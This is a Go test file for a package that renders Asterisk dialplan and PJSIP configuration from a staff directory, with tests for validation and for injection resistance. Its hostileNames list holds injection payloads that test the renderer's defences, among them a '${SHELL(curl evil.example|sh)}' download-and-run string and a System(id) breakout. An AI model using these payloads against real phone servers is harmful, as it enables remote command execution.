package dialplan

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"callsvc/api/record"
)

var update = flag.Bool("update", false, "rewrite the committed samples from the renderer")

// sampleStaff is the small example company of the samples.
func sampleStaff() []record.Staff {
	return []record.Staff{
		{ID: "s1", Name: "王芳", Extension: "2001", Endpoint: "PJSIP/2001", Department: "desk", Role: "agent", Active: true},
		{ID: "s2", Name: "李明", Extension: "2002", Endpoint: "PJSIP/2002", Department: "sales", Role: "agent", Active: true},
		{ID: "s3", Name: "Zhang Wei", Extension: "2003", Endpoint: "PJSIP/2003", Department: "support", Role: "supervisor", Active: true},
		{ID: "s4", Name: "陳靜 (left)", Extension: "2004", Endpoint: "PJSIP/2004", Department: "sales", Role: "agent", Active: false},
	}
}

func sampleSettings() Settings {
	return Settings{
		Company:     "示例貿易公司 Example Trading",
		Inbound:     []string{"100", "+862155550100"},
		ARIPassword: "CHANGE-ME-ari-password",
		Trunk:       &Trunk{Host: "sip.carrier.example:5060", Match: "192.0.2.10"},
		PhoneSecret: PlaceholderSecrets,
	}
}

// labStaff mirrors the lab of the real-Asterisk traces: agents as Local
// channels into [test-agents], and one real SIP phone (PJSIP/2001, sipp).
func labStaff() []record.Staff {
	return []record.Staff{
		{ID: "s1", Name: "SIP agent", Extension: "2001", Endpoint: "PJSIP/2001", Department: "desk", Active: true},
		{ID: "s2", Name: "Local agent one", Extension: "2101", Endpoint: "Local/2101@test-agents", Department: "sales", Active: true},
		{ID: "s3", Name: "Local agent two", Extension: "2102", Endpoint: "Local/2102@test-agents", Department: "support", Active: true},
	}
}

func labSettings() Settings {
	return Settings{
		Company:     "callsvc lab",
		Inbound:     []string{"100"},
		ARIPassword: "CHANGE-ME-ari-password",
		Trunk:       &Trunk{Host: "127.0.0.1:5062"},
		PhoneSecret: PlaceholderSecrets,
		Test:        true,
	}
}

func renderSample(t *testing.T, s Settings, staff []record.Staff) []File {
	t.Helper()
	phones, err := Phones(staff, s.PhoneSecret)
	if err != nil {
		t.Fatal(err)
	}
	files, err := Render(s, phones)
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// TestRenderMatchesSamples renders the example company again and compares
// with the committed samples (go test ./dialplan -update rewrites them).
func TestRenderMatchesSamples(t *testing.T) {
	for dir, files := range map[string][]File{
		"sample":      renderSample(t, sampleSettings(), sampleStaff()),
		"sample-test": renderSample(t, labSettings(), labStaff()),
	} {
		t.Run(dir, func(t *testing.T) {
			if *update {
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				for _, f := range files {
					if err := os.WriteFile(filepath.Join(dir, f.Name), f.Data, 0o644); err != nil {
						t.Fatal(err)
					}
				}
			}
			if len(files) != len(fileNames) {
				t.Fatalf("rendered %d files, want %d", len(files), len(fileNames))
			}
			for _, f := range files {
				want, err := os.ReadFile(filepath.Join(dir, f.Name))
				if err != nil {
					t.Fatalf("%v (run go test ./dialplan -update to write the samples)", err)
				}
				if diff := cmp.Diff(string(want), string(f.Data)); diff != "" {
					t.Errorf("%s/%s differs from the renderer (-committed +rendered):\n%s", dir, f.Name, diff)
				}
			}
		})
	}
}

// readSample parses every committed file of dir.
func readSample(t *testing.T, dir string) map[string]*Config {
	t.Helper()
	out := map[string]*Config{}
	for _, name := range fileNames {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		cfg, err := Parse(f)
		f.Close()
		if err != nil {
			t.Fatalf("%s/%s: %v", dir, name, err)
		}
		out[name] = cfg
	}
	return out
}

// stepsOf lists "exten,priority,app" of one context, following same =>.
func stepsOf(t *testing.T, c *Config, context string) []string {
	t.Helper()
	s := c.Section(context)
	if s == nil {
		t.Fatalf("no context [%s]", context)
	}
	var out []string
	cur := ""
	for _, e := range s.Entries {
		switch e.Key {
		case "exten":
			cur, _, _ = strings.Cut(e.Value, ",")
			out = append(out, e.Value)
		case "same":
			out = append(out, cur+","+e.Value)
		}
	}
	return out
}

func TestSamplesParseAndPassChecks(t *testing.T) {
	for _, dir := range []string{"sample", "sample-test"} {
		t.Run(dir, func(t *testing.T) {
			files := readSample(t, dir)
			if probs := Check(files); len(probs) > 0 {
				t.Fatalf("committed sample fails the checks: %v", errors.Join(probs...))
			}
			ari := files["ari.conf"].Section("callsvc")
			if ari == nil || ari.Get("type") != "user" || ari.Get("password") != "CHANGE-ME-ari-password" {
				t.Errorf("ari.conf [callsvc] = %+v, want a user with the placeholder password", ari)
			}
			if got := files["http.conf"].Section("general").Get("bindaddr"); got != "127.0.0.1" {
				t.Errorf("http.conf bindaddr = %q, want loopback", got)
			}
			g := files["extensions.conf"].Section("globals")
			if g.Get("CALLSVC_BLIND_TRANSFER") != "*1" || g.Get("CALLSVC_ATTENDED_TRANSFER") != "*2" ||
				g.Get("CALLSVC_COMPLETE_TRANSFER") != "*3" || g.Get("CALLSVC_CANCEL_TRANSFER") != "*0" {
				t.Errorf("transfer codes = %q / %q, want the *1 / *2 placeholders", g.Get("CALLSVC_BLIND_TRANSFER"), g.Get("CALLSVC_ATTENDED_TRANSFER"))
			}
		})
	}
}

func TestSampleRoutesInboundAndStaff(t *testing.T) {
	files := readSample(t, "sample")
	ext := files["extensions.conf"]
	want := []string{
		"100,1,NoOp(callsvc inbound ${EXTEN} from ${CALLERID(num)})",
		"100,n,Stasis(callsvc,inbound,${EXTEN})",
		"100,n,Congestion(5)",
		"100,n,Hangup()",
		"+862155550100,1,NoOp(callsvc inbound ${EXTEN} from ${CALLERID(num)})",
		"+862155550100,n,Stasis(callsvc,inbound,${EXTEN})",
		"+862155550100,n,Congestion(5)",
		"+862155550100,n,Hangup()",
	}
	if diff := cmp.Diff(want, stepsOf(t, ext, "from-pstn")); diff != "" {
		t.Errorf("[from-pstn] (-want +got):\n%s", diff)
	}
	staff := stepsOf(t, ext, "staff-phones")
	for _, w := range []string{"2001,n,Dial(PJSIP/2001,20)", "2003,n,Dial(PJSIP/2003,20)", "100,1,Goto(from-pstn,${EXTEN},1)"} {
		if !containsStr(staff, w) {
			t.Errorf("[staff-phones] lacks %q: %q", w, staff)
		}
	}
	for _, s := range staff {
		if strings.HasPrefix(s, "2004,") {
			t.Errorf("inactive staff 2004 still dialable: %q", s)
		}
	}
	// One endpoint, auth and aor per active staff phone, tied together.
	pj := files["pjsip.conf"]
	for _, ep := range []string{"2001", "2002", "2003"} {
		types := map[string]bool{}
		for _, s := range pj.Sections {
			if s.Name == ep {
				types[strings.Join(s.Inherits, ",")] = true
				if s.Get("password") != "" && s.Get("password") != "CHANGE-ME-phone-"+ep {
					t.Errorf("[%s] password %q, want the placeholder", ep, s.Get("password"))
				}
			}
		}
		if !types["staff-phone"] || !types["staff-auth"] || !types["staff-aor"] {
			t.Errorf("pjsip.conf [%s] sections = %v, want endpoint, auth and aor", ep, types)
		}
	}
	for _, s := range pj.Sections {
		if s.Name == "2004" {
			t.Errorf("inactive staff 2004 has a PJSIP section at line %d", s.Line)
		}
	}
}

// TestLabContexts: --test renders what the real-Asterisk scenario run
// dials, as the traces' lab dialplan has it.
func TestLabContexts(t *testing.T) {
	ext := readSample(t, "sample-test")["extensions.conf"]
	if diff := cmp.Diff([]string{
		"100,1,NoOp(callsvc inbound ${EXTEN} from ${CALLERID(num)})",
		"100,n,Stasis(callsvc,inbound)",
		"100,n,Congestion(5)",
		"100,n,Hangup()",
	}, stepsOf(t, ext, "from-pstn")); diff != "" {
		t.Errorf("[from-pstn] (-want +got):\n%s", diff)
	}
	caller := stepsOf(t, ext, "test-caller")
	if len(caller) == 0 || caller[0] != "s,1,Wait(600)" {
		t.Errorf("[test-caller] = %q, want s,1,Wait(600) first", caller)
	}
	agents := stepsOf(t, ext, "test-agents")
	for _, ext := range []string{"2001", "2101", "2102"} {
		want := []string{ext + ",1,Ringing()", ext + ",n,Wait(1)", ext + ",n,Answer()", ext + ",n,Wait(600)"}
		for _, w := range want {
			if !containsStr(agents, w) {
				t.Errorf("[test-agents] lacks %q", w)
			}
		}
	}
	// Every other extension is a phone the scenario tests play through
	// their helper application.
	if !containsStr(agents, "_X.,1,Stasis(callsvc-test,phone,${EXTEN})") {
		t.Errorf("[test-agents] does not hand other extensions to callsvc-test: %q", agents)
	}
	if !containsStr(stepsOf(t, ext, "staff-phones"), "2101,n,Dial(Local/2101@test-agents,20)") {
		t.Errorf("[staff-phones] does not ring the Local agent through [test-agents]")
	}
	// Without --test the lab contexts are absent.
	if readSample(t, "sample")["extensions.conf"].Section("test-agents") != nil {
		t.Error("sample without --test has [test-agents]")
	}
}

func containsStr(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestPhonesRejectsBadDirectory(t *testing.T) {
	base := record.Staff{ID: "a", Name: "A", Extension: "2001", Endpoint: "PJSIP/2001", Active: true}
	with := func(f func(*record.Staff)) []record.Staff {
		s := base
		f(&s)
		return []record.Staff{s}
	}
	for name, tc := range map[string]struct {
		staff  []record.Staff
		secret func(string) string
		want   string
	}{
		"DuplicateExtension": {[]record.Staff{base, {ID: "b", Name: "B", Extension: "2001", Endpoint: "PJSIP/2009", Active: true}}, PlaceholderSecrets, "extension 2001 already belongs"},
		"DuplicateEndpoint":  {[]record.Staff{base, {ID: "b", Name: "B", Extension: "2002", Endpoint: "PJSIP/2001", Active: true}}, PlaceholderSecrets, "endpoint PJSIP/2001 already belongs"},
		"ChanSIP":            {with(func(s *record.Staff) { s.Endpoint = "SIP/2001" }), PlaceholderSecrets, "chan_sip is gone"},
		"LettersInExtension": {with(func(s *record.Staff) { s.Extension = "20a1" }), PlaceholderSecrets, "digits only"},
		"SpaceInEndpoint":    {with(func(s *record.Staff) { s.Endpoint = "PJSIP/20 01" }), PlaceholderSecrets, "no spaces"},
		"NoTech":             {with(func(s *record.Staff) { s.Endpoint = "2001" }), PlaceholderSecrets, "want TECH/RESOURCE"},
		"NoSecret":           {[]record.Staff{base}, nil, "no phone secret"},
		"EmptySecret":        {[]record.Staff{base}, func(string) string { return "" }, "no usable password"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Phones(tc.staff, tc.secret)
			if !errors.Is(err, ErrSettings) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want ErrSettings with %q", err, tc.want)
			}
		})
	}
	// A staff member without an endpoint gets PJSIP/<extension>.
	phones, err := Phones(with(func(s *record.Staff) { s.Endpoint = "" }), PlaceholderSecrets)
	if err != nil || len(phones) != 1 || phones[0].Dial != "PJSIP/2001" || phones[0].Resource != "2001" {
		t.Fatalf("phones = %+v, %v; want PJSIP/2001", phones, err)
	}
}

func TestRenderRefusesBadSettings(t *testing.T) {
	for name, tc := range map[string]struct {
		mod  func(*Settings)
		want string
	}{
		"NoARIPassword":        {func(s *Settings) { s.ARIPassword = "" }, "ARI_PASSWORD"},
		"SameTransferCodes":    {func(s *Settings) { s.AttendedTransfer = "*1" }, "used twice"},
		"LetterTransferCode":   {func(s *Settings) { s.BlindTransfer = "*x" }, "transfer code"},
		"BadInbound":           {func(s *Settings) { s.Inbound = []string{"100,1,Hangup()"} }, "inbound number"},
		"BadApplication":       {func(s *Settings) { s.Application = "call svc" }, "application"},
		"NewlineInARIPassword": {func(s *Settings) { s.ARIPassword = "a\n[evil]" }, "control character"},
		"BadTrunkHost":         {func(s *Settings) { s.Trunk = &Trunk{Host: "a b"} }, "trunk host"},
		"PortOutOfRange":       {func(s *Settings) { s.HTTPPort = 70000 }, "port"},
	} {
		t.Run(name, func(t *testing.T) {
			s := sampleSettings()
			tc.mod(&s)
			_, err := Render(s, nil)
			if !errors.Is(err, ErrSettings) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want ErrSettings mentioning %q", err, tc.want)
			}
		})
	}
}

// hostileNames are directory text meant to become Asterisk syntax or code.
var hostileNames = []string{
	"${SHELL(curl evil.example|sh)}", "$[1+1]", "Eve\"\n[evil]\npassword=1;x", "a\r\n[b]",
	"x) same => n,System(id", "王芳;--", `back\slash`, "{x}", "<2001>", "a\u202eb", "tab\there", "x\x00y",
}

// TestHostileNamesAreRefused: Phones applies the directory's rules
// (record.CheckStaff) and names the person; the renderer never sees them.
func TestHostileNamesAreRefused(t *testing.T) {
	for _, name := range hostileNames {
		for _, field := range []string{"name", "department"} {
			st := record.Staff{ID: "x", Name: "Eve", Extension: "2001", Endpoint: "PJSIP/2001", Department: "desk", Active: true}
			if field == "name" {
				st.Name = name
			} else {
				st.Department = name
			}
			_, err := Phones([]record.Staff{st}, PlaceholderSecrets)
			if !errors.Is(err, ErrSettings) || !strings.Contains(err.Error(), field+":") || record.CheckStaff(st) == nil {
				t.Errorf("%s %q: Phones err = %v; want it refused as the API refuses it", field, name, err)
			}
		}
	}
}

// TestHostileNamesStayInTheirLine: even a phone built by hand, past the
// directory's rules, cannot add sections, options or expansions: names go
// into comments and a quoted caller id only, escaped.
func TestHostileNamesStayInTheirLine(t *testing.T) {
	for _, name := range hostileNames {
		phones := []Phone{{Name: name, Extension: "2001", Department: name, Dial: "PJSIP/2001", Resource: "2001", Secret: "pw"}}
		files, err := Render(sampleSettings(), phones)
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		assertIntended(t, name, files, []Phone{{Name: "N", Extension: "2001", Department: "D", Dial: "PJSIP/2001", Resource: "2001", Secret: "pw"}})
	}
}

// assertIntended fails unless files parse to exactly the objects that
// rendering the benign phones gives (see cmpObjects).
func assertIntended(t *testing.T, what string, files []File, benign []Phone) {
	t.Helper()
	want, err := Render(sampleSettings(), benign)
	if err != nil {
		t.Fatalf("benign render: %v", err)
	}
	for i, f := range files {
		got, err := Parse(bytes.NewReader(f.Data))
		if err != nil {
			t.Fatalf("%q: %s does not parse: %v", what, f.Name, err)
		}
		exp, err := Parse(bytes.NewReader(want[i].Data))
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmpObjects(got, exp); diff != "" {
			t.Fatalf("%q: %s: %s", what, f.Name, diff)
		}
	}
}

// FuzzRenderDirectory: whatever a directory entry holds, either the
// directory's rules refuse it (Phones and the API alike) or the rendered
// files parse to exactly the intended objects and pass Check.
func FuzzRenderDirectory(f *testing.F) {
	for _, name := range hostileNames {
		f.Add(name, "desk", "2001", "PJSIP/2001", "zh")
	}
	for _, s := range append(sampleStaff(), labStaff()...) {
		f.Add(s.Name, s.Department, s.Extension, s.Endpoint, "en")
	}
	f.Add("O'Brien-Smith (Jr.), & Co", "after-sales", "2001", "Local/2001@test-agents", "orders")
	f.Add("a", "b", "2001", "PJSIP/x;y", "c")
	f.Add("a", "b", "20#1", "SIP/2001", "c")
	f.Fuzz(func(t *testing.T, name, dept, ext, endpoint, skill string) {
		st := record.Staff{ID: "x", Name: name, Department: dept, Extension: ext, Endpoint: endpoint, Skills: []string{skill}, Active: true}
		phones, err := Phones([]record.Staff{st}, PlaceholderSecrets)
		if ext == "" {
			return // no phone at all
		}
		if endpoint == "" {
			st.Endpoint = "PJSIP/" + ext
		}
		refused := record.CheckStaff(st)
		if (err == nil) != (refused == nil) {
			t.Fatalf("Phones err = %v but the directory's rules say %v", err, refused)
		}
		if err != nil {
			return
		}
		files, err := Render(labSettings(), phones)
		if err != nil {
			t.Fatalf("an accepted entry does not render: %v", err)
		}
		benign := phones[0]
		benign.Name = "N"
		if benign.Department != "" {
			benign.Department = "D"
		}
		want, err := Render(labSettings(), []Phone{benign})
		if err != nil {
			t.Fatal(err)
		}
		for i, file := range files {
			got, err := Parse(bytes.NewReader(file.Data))
			if err != nil {
				t.Fatalf("%s does not parse: %v", file.Name, err)
			}
			exp, _ := Parse(bytes.NewReader(want[i].Data))
			if diff := cmpObjects(got, exp); diff != "" {
				t.Fatalf("%s: the entry changed the objects:\n%s", file.Name, diff)
			}
		}
	})
}

// cmpObjects compares two parsed files: the same sections with the same
// keys in the same order and the same values, but for caller ids, which
// carry the name and must be one quoted string without anything Asterisk
// expands. "" when they match.
func cmpObjects(got, want *Config) string {
	if len(got.Sections) != len(want.Sections) || len(got.Includes) != len(want.Includes) {
		return fmt.Sprintf("%d sections, %d includes; want %d, %d", len(got.Sections), len(got.Includes), len(want.Sections), len(want.Includes))
	}
	for j, s := range got.Sections {
		e := want.Sections[j]
		if s.Name != e.Name || s.Template != e.Template || !slices.Equal(s.Inherits, e.Inherits) || len(s.Entries) != len(e.Entries) {
			return fmt.Sprintf("section %d: [%s]%v (%d entries), want [%s]%v (%d)", j, s.Name, s.Inherits, len(s.Entries), e.Name, e.Inherits, len(e.Entries))
		}
		for k, en := range s.Entries {
			ee := e.Entries[k]
			switch {
			case en.Key != ee.Key:
				return fmt.Sprintf("[%s] entry %d: %q, want %q", s.Name, k, en.Key, ee.Key)
			case en.Key == "callerid":
				if strings.Count(en.Value, `"`) != 2 || !strings.HasPrefix(en.Value, `"`) || strings.ContainsAny(en.Value, "${}[]\\") {
					return fmt.Sprintf("[%s] callerid %q is not one quoted, inert name", s.Name, en.Value)
				}
			case en.Value != ee.Value:
				return fmt.Sprintf("[%s] %s = %q, want %q", s.Name, en.Key, en.Value, ee.Value)
			}
		}
	}
	return ""
}

func TestWriteDirKeepsSecretsPrivate(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "conf")
	files := renderSample(t, sampleSettings(), sampleStaff())
	// An existing world-readable pjsip.conf is tightened, not kept.
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "pjsip.conf"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteDir(dir, files); err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		st, err := os.Stat(filepath.Join(dir, f.Name))
		if err != nil {
			t.Fatal(err)
		}
		want := os.FileMode(0o644)
		if secretFiles[f.Name] {
			want = 0o600
		}
		if st.Mode().Perm() != want {
			t.Errorf("%s mode %v, want %v", f.Name, st.Mode().Perm(), want)
		}
		got, _ := os.ReadFile(filepath.Join(dir, f.Name))
		if !bytes.Equal(got, f.Data) {
			t.Errorf("%s written differs from rendered", f.Name)
		}
	}
}
